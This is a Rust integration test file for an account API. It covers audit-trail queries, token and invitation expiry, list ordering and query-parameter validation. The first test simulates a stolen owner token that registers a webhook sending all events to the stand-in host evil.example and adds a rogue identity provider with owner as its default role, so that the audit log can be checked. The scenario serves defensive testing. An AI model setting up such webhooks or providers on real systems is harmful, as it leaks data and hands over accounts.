//! Traces of a stolen API token.

use super::*;

#[tokio::test]
async fn the_audit_trail_shows_what_a_revoked_token_created() {
    let people = PeopleApi::start().await;
    people
        .create(&people.site(), "ann@example.com", Role::Owner)
        .await;
    let ann = people.browser("ann@example.com").await;
    let new = json!({"name": "stolen", "scopes": ["owner"]});
    let new = people.send(&ann, "POST", "/tokens", new).await.expect(201);
    let (id, secret) = (new["id"].as_str().unwrap(), new["secret"].as_str().unwrap());
    let webhook = json!({"url": "https://evil.example/", "events": ["*"]});
    let webhook = people.send_as(secret, "POST", "/webhooks", webhook).await;
    let webhook = webhook.expect(201)["id"].clone();
    let provider = json!({
        "name": "Login", "issuer": "https://evil.example", "client_id": "licenses",
        "roles": [], "default_role": "owner",
    });
    let path = "/identity-providers";
    let provider = people.send_as(secret, "POST", path, provider).await;
    let provider = provider.expect(201)["id"].clone();
    let path = format!("/tokens/{id}");
    let revoked = people.send(&ann, "DELETE", &path, Value::Null).await;
    assert_eq!(revoked.status, 204);

    let query = async |query: &str| {
        let found = people
            .send(&ann, "GET", &format!("/audit?{query}"), Value::Null)
            .await;
        found.expect(200)
    };
    let actions = |found: &Value| {
        let items = found["items"].as_array().unwrap().iter();
        let pairs = items.map(|entry| (entry["action"].clone(), entry["subject"].clone()));
        pairs.collect::<Vec<_>>()
    };
    let left = [
        (json!("webhook.create"), webhook),
        (json!("identity_provider.create"), provider),
    ];
    let actor = format!("actor=token:{id}");
    assert_eq!(actions(&query(&actor).await), left);
    let newest = query(&format!("{actor}&order=newest&limit=1")).await;
    assert_eq!(actions(&newest), left[1..]);
    let next = newest["next"].as_str().unwrap();
    let next = query(&format!("{actor}&order=newest&limit=1&cursor={next}")).await;
    assert_eq!(actions(&next), left[..1]);
    assert_eq!(actions(&query("action=webhook.*").await), left[..1]);
    assert_eq!(actions(&query(&format!("subject={id}")).await).len(), 2);
    // The clock of the test is at 09:00.
    for (bounds, count) in [
        ("since=2027-01-15T09:00:00Z", 2),
        ("since=2027-01-15T09:00:01Z", 0),
        ("until=2027-01-15T09:00:00Z", 0),
        ("until=2027-01-15T09:00:01Z", 2),
    ] {
        let found = query(&format!("{actor}&{bounds}")).await;
        assert_eq!(actions(&found).len(), count, "{bounds}");
    }
    let long = format!("/audit?subject={}", "x".repeat(201));
    let refused = people.send(&ann, "GET", &long, Value::Null).await;
    refused.expect_problem(400, "BAD_REQUEST");
}

#[tokio::test]
async fn an_invitation_ends_with_the_token_that_created_it() {
    let people = PeopleApi::start().await;
    people
        .create(&people.site(), "ann@example.com", Role::Owner)
        .await;
    let ann = people.browser("ann@example.com").await;
    let expires_at = "2027-01-16T09:00:00Z";
    let new = json!({"name": "short", "scopes": ["owner"], "days": 1});
    let new = people.send(&ann, "POST", "/tokens", new).await.expect(201);
    let secret = new["secret"].as_str().unwrap();
    let invite = json!({"email": "eve@example.com", "role": "owner"});
    let invited = people
        .send_as(secret, "POST", "/invitations", invite.clone())
        .await
        .expect(201);
    assert_eq!(invited["expires_at"], expires_at);
    let link = invited["link"].as_str().unwrap();
    let token = link.split_once('#').unwrap().1;
    people.clock.advance_ms(24 * 60 * 60 * 1000);
    let eve = json!({"token": token, "name": "Eve", "password": PASSWORD});
    let accept = "/invitations/accept";
    let late = people.send(&Browser::default(), "POST", accept, eve).await;
    late.expect_problem(403, "LINK_ENDED");
    // A person without an end, and a token that lasts, invite for seven days.
    let ann = people.browser("ann@example.com").await;
    let invited = people.send(&ann, "POST", "/invitations", invite).await;
    assert_eq!(invited.expect(201)["expires_at"], "2027-01-23T09:00:00Z");
}

#[tokio::test]
async fn each_list_has_the_order_of_creation() {
    let people = PeopleApi::start().await;
    people
        .create(&people.site(), "ann@example.com", Role::Owner)
        .await;
    let ann = people.browser("ann@example.com").await;
    // The clock of the test stands still.
    for number in 10..20 {
        let token = json!({"name": number.to_string(), "scopes": ["auditor"]});
        people
            .send(&ann, "POST", "/tokens", token)
            .await
            .expect(201);
        let email = format!("{number}@example.com");
        let invite = json!({"email": email, "role": "member"});
        people
            .send(&ann, "POST", "/invitations", invite)
            .await
            .expect(201);
    }
    let newest = people.browser("ann@example.com").await;
    for (path, member) in [("/tokens", "name"), ("/invitations", "email")] {
        let found = people
            .send(&ann, "GET", path, Value::Null)
            .await
            .expect(200);
        let items = found["items"].as_array().unwrap();
        let names: Vec<_> = items.iter().map(|item| item[member].as_str()).collect();
        assert!(names.is_sorted() && names.len() == 10, "{names:?}");
    }
    let sessions = people.send(&newest, "GET", "/sessions", Value::Null).await;
    assert_eq!(sessions.expect(200)["items"][0]["is_current"], true);
    let export = people
        .send(&newest, "GET", "/account/export", Value::Null)
        .await
        .expect(200);
    let current = export["sessions"].as_array().unwrap().iter();
    let current: Vec<_> = current.map(|session| &session["is_current"]).collect();
    assert_eq!(current, [true, false]);
}

#[tokio::test]
async fn a_query_has_no_other_parameters_than_the_route() {
    let people = PeopleApi::start().await;
    people
        .create(&people.site(), "ann@example.com", Role::Owner)
        .await;
    let ann = people.browser("ann@example.com").await;
    let long = format!("/tokens?{}=1", "x".repeat(1000));
    for (method, path, named) in [
        ("GET", "/tokens?limit=5", "`limit`"),
        ("GET", "/account?x", "`x`"),
        ("POST", "/groups?limit=5", "`limit`"),
        ("GET", "/groups?limt=5", "`limt`"),
        ("GET", "/groups?limit=5&limit=6", "`limit`"),
        ("GET", "/groups?limit=five", "`limit`"),
        ("GET", "/audit?since=yesterday", "`since`"),
        ("GET", "/audit?order=first", "`order`"),
        ("GET", long.as_str(), "xxxx`"),
        ("POST", "/sessions?email=a%40b.example", "`email`"),
        ("GET", "/revocations?product=x&cursor=", "`cursor`"),
    ] {
        let refused = people.send(&ann, method, path, Value::Null).await;
        let problem = refused.expect_problem(400, "BAD_REQUEST");
        let detail = problem["detail"].as_str().unwrap();
        assert!(
            detail.contains(named) && detail.len() < 120,
            "{path}: {detail}"
        );
    }
    let known = people.send(&ann, "GET", "/groups?limit=5", Value::Null);
    known.await.expect(200);
}
